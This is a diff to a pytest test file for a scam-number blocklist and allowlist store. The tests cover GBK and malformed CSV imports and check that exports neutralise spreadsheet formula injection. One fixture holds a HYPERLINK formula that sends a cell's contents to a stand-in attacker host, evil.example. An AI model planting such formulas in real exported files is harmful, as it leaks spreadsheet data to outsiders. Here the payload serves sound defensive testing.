@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
+import io
 from dataclasses import fields
 
 import pytest
@@ -122,13 +124,32 @@ def test_line_numbers_count_quoted_newlines_and_blank_lines(store):
     assert [e.line for e in caught.value.errors] == [5]
 
 
-def test_not_utf8_is_refused_with_its_line(store, tmp_path):
+def test_a_gbk_file_saved_by_excel_on_windows_imports(store, tmp_path):
     path = tmp_path / "gbk.csv"
-    path.write_bytes("number,category\n+8613800138000,other\n+8613900139000,冒充公检法\n".encode("gbk"))
+    path.write_bytes(GOOD.replace("\n", "\r\n").encode("gbk"))
+    assert store.import_blocklist_csv(path).added == 4
+    assert store.lookup("+8613800138000").evidence == "自称公安局, 要求转账"
+    assert store.lookup("+8617055556666").category == "card_trafficking"
+
+
+def test_a_file_in_no_known_encoding_is_refused_at_its_line(store, tmp_path):
+    path = tmp_path / "binary.csv"
+    path.write_bytes(b"number,category\n+8613800138000,other\n\x80\x80\xff,other\n")
     with pytest.raises(CsvError) as caught:
         store.import_blocklist_csv(path)
     assert caught.value.errors[0].line == 3
     assert "UTF-8" in caught.value.errors[0].reason
+    assert store.lookup("+8613800138000") is None
+
+
+def test_a_200_kb_cell_is_reported_at_its_own_line_and_nothing_is_imported(store):
+    text = ('number,category,evidence\n+8613800138000,other,ok\n\n'
+            f'+8613900139000,other,"{"长" * 200_000}"\n+8613700137000,other,x\n')
+    with pytest.raises(CsvError) as caught:
+        store.import_blocklist_csv(text)
+    assert [e.line for e in caught.value.errors] == [4]
+    assert str(caught.value).startswith("line 4: a cell longer than")
+    assert caught.value.errors[0].text("zh-Hans").startswith("第 4 行：有一格超过")
     assert store.lookup("+8613800138000") is None
 
 
@@ -151,7 +172,7 @@ def test_export_then_import_round_trip(store, db_url, tmp_path):
     store.remove_blocklist("+8613500135000", actor=1)  # removed entries are not exported
     exported = store.export_blocklist_csv()
     assert exported.splitlines()[0] == "number,category,evidence,expires"
-    assert "+86170*,card_trafficking,虚拟运营商号段," in exported
+    assert "'+86170*,card_trafficking,虚拟运营商号段," in exported
     assert "2030-06-30" in exported
     assert "+8613500135000" not in exported
     # Into the same store: nothing changes.
@@ -163,6 +184,56 @@ def test_export_then_import_round_trip(store, db_url, tmp_path):
     with Store.open(other_url) as other:
         assert other.import_blocklist_csv(exported).added == 4
         assert other.export_blocklist_csv() == exported
+
+
+# Cells a spreadsheet would run as formulas (=, +, -, @ first), and one that starts with a quote already.
+FORMULAS = {
+    "+8613800138000": '=HYPERLINK("http://evil.example/?"&A1,"查看证据")',
+    "+8613900139000": "+1 自称客服，要求转账",
+    "+8613700137000": "-2+3",
+    "+8613600136000": "@所有人 兼职刷单",
+    "+8613500135000": "'=写在引号后面",
+}
+
+
+def _cells(exported: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+
+
+def _formula_cells(exported: str) -> list[str]:
+    return [cell for cell in _cells(exported) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+
+def test_export_is_safe_in_a_spreadsheet_and_imports_back_as_the_same_data(store):
+    for number, evidence in FORMULAS.items():
+        store.add_blocklist(number, "other", actor=1, evidence=evidence)
+    store.add_blocklist("+86170", "断卡", actor=1, evidence="虚拟运营商号段", prefix=True)
+    exported = store.export_blocklist_csv()
+    assert _formula_cells(exported) == []
+    cells = _cells(exported)
+    assert "'+8613800138000" in cells and "'+86170*" in cells  # text in a spreadsheet, not 8.6138E+12
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"查看证据\")" in cells
+    # Every entry taken off, then the export imported: the same entries, word for word.
+    for number in FORMULAS:
+        store.remove_blocklist(number, actor=1)
+    store.remove_blocklist("+86170", actor=1, prefix=True)
+    assert store.import_blocklist_csv(exported).added == 6
+    assert {number: store.lookup(number).evidence for number in FORMULAS} == FORMULAS
+    assert store.lookup("+8617012345678").category == "card_trafficking"
+    assert store.export_blocklist_csv() == exported
+
+
+def test_allowlist_export_is_safe_in_a_spreadsheet_and_imports_back(store):
+    store.add_allowlist("4008-123-123", "=示例公司", actor=1, aliases=["@示例", "-Example"],
+                        owner_category="+company")
+    exported = store.export_allowlist_csv()
+    assert _formula_cells(exported) == []
+    assert "'+864008123123,'=示例公司,'@示例|-Example,'+company" in exported.splitlines()
+    store.remove_allowlist("4008123123", actor=1)
+    assert store.import_allowlist_csv(exported).added == 1
+    entry = store.get_allowlist("+864008123123")
+    assert (entry.owner, entry.aliases, entry.owner_category) == ("=示例公司", ["@示例", "-Example"], "+company")
+    assert store.export_allowlist_csv() == exported
 
 
 def test_preview_reports_without_writing(store):
